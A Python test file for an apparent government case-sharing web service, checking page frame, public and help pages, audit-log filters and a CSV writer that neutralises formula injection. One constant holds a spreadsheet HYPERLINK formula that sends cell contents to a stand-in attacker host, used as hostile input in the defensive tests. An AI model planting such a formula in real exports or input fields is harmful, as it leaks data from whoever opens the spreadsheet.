"""The frame every page shares and the pages every service has: the header without the crown, the
footer's links, the classification banners, the public accessibility, cookies and contact pages,
help for each role, sign-ins attributed in the audit viewer, the one CSV writer's formula guard,
and bad filter values answered with 400 (shareplatform/templates/base.html,
shareplatform/web/pages.py, shareplatform/web/csv_export.py, shareplatform/audit_viewer/)."""

from __future__ import annotations

import csv
import io
import re

import pytest

from shareplatform.web.csv_export import guard, to_csv
from shareplatform.web.display import display_name
from tests.support.web import post_form, sign_in, text

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


def signed_in(app, seeded, username: str):  # type: ignore[no-untyped-def]
    client = app.test_client()
    sign_in(client, seeded, username)
    return client


# -- header, footer, banners ----------------------------------------------------------------------
def test_the_header_has_no_crown_and_the_footer_no_licence(client) -> None:  # type: ignore[no-untyped-def]
    page = text(client.get("/sign-in"))
    assert "govuk-generic-header" in page and "Share platform" in page
    assert "govuk-header__logotype" not in page and "govuk-logo" not in page
    assert "Open Government Licence" not in page and "Crown copyright" not in page
    assert "govuk-footer__crown" not in page
    for href in ("/accessibility", "/cookies", "/contact"):
        assert f'href="{href}"' in page
    assert 'href="/help"' not in page  # help is for signed-in users


def test_banners_at_top_and_bottom_carry_the_page_marking(client) -> None:  # type: ignore[no-untyped-def]
    page = text(client.get("/accessibility"))
    assert page.count('data-page-label="OFFICIAL"') == 2
    top, bottom = page.index("app-classification--top"), page.index("app-classification--bottom")
    assert top < page.index("govuk-generic-header") < page.index("govuk-footer") < bottom


def test_signed_in_footer_links_help_and_account(app, seeded) -> None:  # type: ignore[no-untyped-def]
    page = text(signed_in(app, seeded, "com.cole").get("/cases"))
    assert 'href="/help"' in page and 'href="/account"' in page


# -- the pages every service has -------------------------------------------------------------------
@pytest.mark.parametrize(
    ("path", "heading"),
    [
        ("/accessibility", "Accessibility statement for Share platform"),
        ("/cookies", "Cookies"),
        ("/contact", "Contact"),
    ],
)
def test_public_pages_open_without_sign_in(client, path: str, heading: str) -> None:  # type: ignore[no-untyped-def]
    r = client.get(path)
    assert r.status_code == 200, path
    assert f'<h1 class="govuk-heading-l">{heading}</h1>' in text(r)


def test_the_accessibility_statement_says_what_was_tested(client) -> None:  # type: ignore[no-untyped-def]
    page = text(client.get("/accessibility"))
    for words in ("WCAG", "2.2", "AA", "axe", "Chromium", "keyboard", "Known issues"):
        assert words in page, words
    assert "Reporting accessibility problems" in page and 'href="/contact"' in page


def test_the_cookies_page_lists_only_the_essential_cookies(client) -> None:  # type: ignore[no-untyped-def]
    from shareplatform.web.shell import ANON_COOKIE, SESSION_COOKIE

    page = text(client.get("/cookies"))
    table = page[page.index('id="cookies"') :]
    assert re.findall(r"<code>([^<]+)</code>", table) == [SESSION_COOKIE, ANON_COOKIE]
    assert "CSRF" in page and "analytics" in page  # says there are none


def test_help_pages_need_sign_in(client) -> None:  # type: ignore[no-untyped-def]
    r = client.get("/help")
    assert r.status_code in (302, 303) and "/sign-in" in r.headers["Location"]


def test_help_for_each_role_journey(app, seeded) -> None:  # type: ignore[no-untyped-def]
    from shareplatform.web.pages import HELP_TOPICS

    client = signed_in(app, seeded, "com.cole")
    index = text(client.get("/help"))
    for topic, (title, _) in HELP_TOPICS.items():
        assert f'href="/help/{topic}"' in index
        page = text(client.get(f"/help/{topic}"))
        assert f'<h1 class="govuk-heading-l">{title}</h1>' in page
    assert "Add a record" in text(client.get("/help/post-a-note"))
    assert "Sign and record the decision" in text(client.get("/help/record-a-mappa-decision"))
    assert "Approve change" in text(client.get("/help/change-the-access-policy"))
    assert "Log verified" in text(client.get("/help/verify-the-audit-log"))
    assert client.get("/help/no-such-topic").status_code == 404


# -- display names -----------------------------------------------------------------------------
def test_codes_read_as_their_titles() -> None:
    import shareplatform.mappa.vocab  # noqa: F401  (a feature's vocabulary, loaded by the app)

    assert display_name("COM") == "Community offender manager"
    assert display_name("CONTACT_OFFICE") == "Office contact"
    assert display_name("MAPPA_L2") == "MAPPA Level 2 meeting"
    assert display_name("frontline") == "frontline"  # not a code of any vocabulary


def test_policy_pickers_and_lines_show_role_titles(app, seeded) -> None:  # type: ignore[no-untyped-def]
    page = text(signed_in(app, seeded, "policy.admin").get("/admin/policy"))
    assert '<option value="COM">Community offender manager (COM)</option>' in page
    assert '<option value="NSD">Probation Service National Security Division (NSD)</option>' in page


# -- the audit viewer: sign-ins by person, bad filters -----------------------------------------
def test_sign_ins_and_failures_are_attributed_in_the_audit_viewer(app, seeded) -> None:  # type: ignore[no-untyped-def]
    stranger = app.test_client()
    r = post_form(stranger, "/sign-in", {"username": "com.cole", "password": "wrong password"})
    assert r.status_code == 400 or r.status_code == 200
    post_form(stranger, "/sign-in", {"username": "nobody.here", "password": "wrong password"})
    auditor = signed_in(app, seeded, "auditor.adams")

    page = text(auditor.get("/admin/audit?user=com.cole"))
    rows = re.findall(r'<td class="govuk-table__cell" data-actor>(.*?)</td>', page, flags=re.S)
    assert rows and all(row.startswith("com.cole") for row in rows)
    assert "signin.password" in page and "system" not in rows

    page = text(auditor.get("/admin/audit?user=nobody.here"))
    assert "nobody.here <span" in page and "no such account" in page


def test_bad_audit_filter_values_answer_400_with_a_message(app, seeded) -> None:  # type: ignore[no-untyped-def]
    auditor = signed_in(app, seeded, "auditor.adams")
    for query, words in (
        ("page=abc", "Invalid page: &#39;abc&#39;: use a whole number from 1"),
        ("page=0", "Invalid page"),
        ("since=yesterday", "use a date like 2024-03-27"),
        ("outcome=maybe", "Invalid outcome"),
        ("label=TOP-SECRET", "Invalid classification"),
    ):
        r = auditor.get(f"/admin/audit?{query}")
        assert r.status_code == 400, query
        page = text(r)
        assert "There is a problem" in page and words in page, query
        assert 'id="audit"' in page  # the form and table are still there to correct the filter
    assert auditor.get("/admin/audit?page=2").status_code == 200
    assert auditor.get("/admin/audit/export.csv?since=nope").status_code == 400


# -- one CSV writer ------------------------------------------------------------------------------
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_writer_guards_every_formula_start(start: str) -> None:
    assert guard(start + "1+1") == "'" + start + "1+1"


def test_the_csv_writer_keeps_numbers_and_plain_text() -> None:
    assert guard(-3) == -3 and guard(2.5) == 2.5 and guard(None) == ""
    assert guard("plain text") == "plain text" and guard("a=b") == "a=b"
    rows = list(csv.reader(io.StringIO(to_csv([["name", "n"], [HYPERLINK, -1]]))))
    assert rows == [["name", "n"], ["'" + HYPERLINK, "-1"]]


def test_a_typed_hyperlink_is_exported_as_text_from_the_audit_log(app, seeded) -> None:  # type: ignore[no-untyped-def]
    """The username typed at sign-in reaches the audit export's actor column: never a formula."""
    post_form(app.test_client(), "/sign-in", {"username": HYPERLINK, "password": "x"})
    auditor = signed_in(app, seeded, "auditor.adams")
    export = auditor.get("/admin/audit/export.csv", query_string={"user": HYPERLINK})
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(text(export))))
    actors = [row[2] for row in rows[2:-1]]
    assert actors and set(actors) == {"'" + HYPERLINK}
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_a_typed_hyperlink_in_minutes_is_exported_as_text() -> None:
    from datetime import UTC, datetime

    from shareplatform.domain.labels import Classification, Label
    from shareplatform.mappa.exports import MinutesDocument, Paragraph
    from shareplatform.mappa.exports import to_csv as minutes_csv

    doc = MinutesDocument(
        "Minutes",
        "SP-1001",
        Classification.OFFICIAL_SENSITIVE,
        "chair",
        datetime.now(UTC),
        [Paragraph("Open part", Label(Classification.OFFICIAL_SENSITIVE), HYPERLINK)],
    )
    rows = list(csv.reader(io.StringIO(minutes_csv(doc))))
    assert rows[2] == ["Open part", "OFFICIAL-SENSITIVE", "'" + HYPERLINK]


def test_report_figures_go_through_the_shared_writer(app, seeded, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from shareplatform.web import csv_export

    written: list[object] = []
    real = csv_export.to_csv
    monkeypatch.setattr(csv_export, "to_csv", lambda rows: written.append(rows) or real(rows))
    r = signed_in(app, seeded, "honsu.hughes").get("/reports/figures/level.csv")
    assert r.status_code == 200 and written
    assert text(r).splitlines()[0].startswith("Classification: ")


def test_bad_report_filter_values_answer_400_with_a_message(app, seeded) -> None:  # type: ignore[no-untyped-def]
    client = signed_in(app, seeded, "honsu.hughes")
    for query, words in (("months=abc", "Invalid period"), ("unit=nowhere", "Invalid unit")):
        r = client.get(f"/reports/trends?{query}")
        assert r.status_code == 400, query
        assert words in text(r), query
